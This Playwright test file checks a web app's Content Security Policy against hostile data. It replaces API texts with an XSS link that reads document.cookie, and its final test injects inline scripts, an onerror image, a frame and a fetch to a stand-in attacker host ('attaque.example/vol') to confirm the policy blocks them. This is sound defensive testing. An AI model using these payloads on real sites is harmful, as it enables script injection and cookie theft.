import { expect, type Page } from '@playwright/test';
import { HOSTILE } from '../../../mock-server/scenarios/extreme-texts';
import type { ScenarioName } from '../../../mock-server/scenarios/scenarios';
import { SKELETON_ATTRIBUTE } from '../../../src/boot/protocol';
import { signIn } from '../support/accounts';
import { answerOutside, FROM_FRANCE } from '../support/answer-outside';
import { skeletonScreens } from '../support/documents';
import { ENTRY_SCRIPT, holdRequests } from '../support/hold-requests';
import { type Role, type Screen, screens, screenTitle } from '../support/screen-list';
import { pressFirst, settle } from '../support/screens';
import { type Site, test } from './site';

/** For each role, the scenario with the strangest values; all its texts are then made hostile. */
const scenarios = {
  visiteur: 'visiteur',
  attente: 'compte-en-attente',
  camille: 'textes-extremes',
  admin: 'admin-textes-extremes',
} as const satisfies Record<Role, ScenarioName>;

interface Watch {
  violations: string[];
  /** Origins of everything that was asked for. */
  origins: Set<string>;
  /** Everything that was asked for, whole. */
  urls: string[];
  /** Every page load. */
  documents: string[];
  attacks: string[];
}

const HOSTILE_LINK = 'javascript:alert(document.cookie)';

/** The hostile text that replaces a text. The country code keeps its form, which the contract requires. */
const hostileText = (field: string, text: string): string => {
  if (field === 'country_code') return text;
  return field === 'deeplink' || field === 'image_url' ? HOSTILE_LINK : HOSTILE;
};

/** Makes every text of every answer hostile; the scenarios have hostile texts in some rows only. */
const makeAnswersHostile = async (page: Page): Promise<void> => {
  await page.route('**/api/**', async (route) => {
    const response = await route.fetch();
    const json: unknown = JSON.parse(await response.text(), (field, value: unknown) =>
      typeof value === 'string' ? hostileText(field, value) : value,
    );
    await route.fulfill({ response, json });
  });
};

/** Notes what the policy refused, what left the origin, and what an answer managed to run. */
const watch = async (page: Page): Promise<Watch> => {
  const seen: Watch = { violations: [], origins: new Set(), urls: [], documents: [], attacks: [] };
  await page.exposeFunction('noteViolation', (text: string) => seen.violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      Reflect.get(window, 'noteViolation')(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
  page.on('dialog', (dialog) => {
    seen.attacks.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    seen.urls.push(request.url());
    if (request.isNavigationRequest()) seen.documents.push(request.url());
    if (request.url().startsWith('http')) seen.origins.add(new URL(request.url()).origin);
  });
  await answerOutside(page, FROM_FRANCE);
  await makeAnswersHostile(page);
  return seen;
};

/** What has no text of the backend but the name above. */
const nameAlone = new Set(['/offers/inconnue', '/admin', '/admin/daisycon']);

/** Enters a role's scenario and watches what its screens do. */
const enter = async (page: Page, site: Site, role: Role) => {
  const session = await site.mock.enter(scenarios[role]);
  const seen = await watch(page);
  if (session) await signIn(page, session);
  /** What holds on each screen, once all of it is there. */
  const expectHarmless = async ({ path }: Screen) => {
    if (session) {
      const place = page.locator(nameAlone.has(path) ? 'header' : 'main');
      await expect(place.getByText(HOSTILE).filter({ visible: true })).not.toHaveCount(0);
      expect(seen.urls.filter((url) => url.includes(session.access_token))).toEqual([]);
    }
    expect(seen.violations).toEqual([]);
    expect(seen.attacks).toEqual([]);
    const lookup = path === '/register' ? ['https://ipapi.co'] : [];
    expect([site.url, ...lookup]).toEqual(expect.arrayContaining([...seen.origins]));
    // However many screens: it is the same page that goes from one to the next.
    expect(seen.documents).toHaveLength(1);
  };
  return { expectHarmless };
};

const hasSkeleton = ({ role, path }: Screen) =>
  skeletonScreens.some((screen) => screen.role === role && screen.path === path);

for (const screen of screens.filter(hasSkeleton)) {
  test(`${screenTitle(screen)}, ossature puis données hostiles : rien que la politique refuse, rien qui sorte`, async ({
    page,
    site,
  }) => {
    const { expectHarmless } = await enter(page, site, screen.role);
    const start = await holdRequests(page, ENTRY_SCRIPT);
    const formats = page.waitForEvent('worker');
    await page.goto(screen.path, { waitUntil: 'commit' });
    await expect(page.locator(`[${SKELETON_ATTRIBUTE}] h1`)).toBeVisible();
    expect((await formats).url()).toContain('/assets/warm-up-formats-');
    start();
    await settle(page, /./);
    await expectHarmless(screen);
  });
}

const screensOf = (role: Role) => screens.filter((screen) => screen.role === role && !hasSkeleton(screen));
const visitorScreens = screensOf('visiteur');

/** What one load leads to: a visitor's address has a document of its own, the others of a role share theirs. */
const walks = [
  ...[...new Set(visitorScreens.map(({ path }) => path))].map((path) => ({
    title: `${path} (visiteur)`,
    role: 'visiteur' as const,
    visited: visitorScreens.filter((screen) => screen.path === path),
  })),
  ...(['attente', 'camille', 'admin'] as const).map((role) => ({
    title: `sans ossature (${role}), un écran après l’autre`,
    role,
    visited: screensOf(role),
  })),
];

for (const { title, role, visited } of walks) {
  test(`${title}, données hostiles : rien que la politique refuse, rien qui sorte`, async ({ page, site }) => {
    const { expectHarmless } = await enter(page, site, role);
    let shown: string | null = null;
    for (const screen of visited) {
      await test.step(screenTitle(screen), async () => {
        if (shown === null) {
          await page.goto(screen.path);
          // Any heading: the hostile data is in some of them.
          await settle(page, /./);
        } else if (shown !== screen.path) {
          // The router follows the browser's own history.
          await page.evaluate((path) => window.history.pushState(null, '', path), screen.path);
          await expect(page).toHaveURL(screen.path);
          // By its name: the one before it may still be there.
          await settle(page, screen.heading);
          await expect(page.getByRole('dialog')).toHaveCount(0);
        }
        shown = screen.path;
        await pressFirst(page, screen);
        await expectHarmless(screen);
      });
    }
  });
}

test('la politique laisse venir l’image d’une mission, en https seulement', async ({ page }) => {
  const seen = await watch(page);
  await page.goto('/login');
  await settle(page, 'Bon retour !');
  await page.evaluate(() => {
    for (const address of ['https://partenaire.example/image.png', 'http://partenaire.example/image.png']) {
      document.body.append(Object.assign(new Image(), { src: address }));
    }
  });
  await expect.poll(() => [...seen.origins]).toContain('https://partenaire.example');
  await expect.poll(() => seen.violations).toEqual([expect.stringMatching(/^img-src http:/)]);
});

test('la politique refuse ce qu’une faille laisserait passer', async ({ page }) => {
  const seen = await watch(page);
  const answered: string[] = [];
  page.on('response', (response) => answered.push(new URL(response.url()).hostname));
  await page.goto('/login');
  await settle(page, 'Bon retour !');
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="document.title = \'attaqué\'">');
    const script = document.createElement('script');
    script.textContent = "document.title = 'attaqué'";
    document.body.append(script);
    const foreign = document.createElement('script');
    foreign.src = 'https://attaque.example/a.js';
    document.body.append(foreign);
    const frame = document.createElement('iframe');
    frame.src = 'https://attaque.example/';
    document.body.append(frame);
  });
  await page.evaluate(() => fetch('https://attaque.example/vol').catch(() => null));
  await expect
    .poll(() => seen.violations.map((text) => text.split(' ')[0]).toSorted())
    .toEqual(['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  await expect(page).not.toHaveTitle(/attaqué/);
  expect(answered).not.toContain('attaque.example');
});
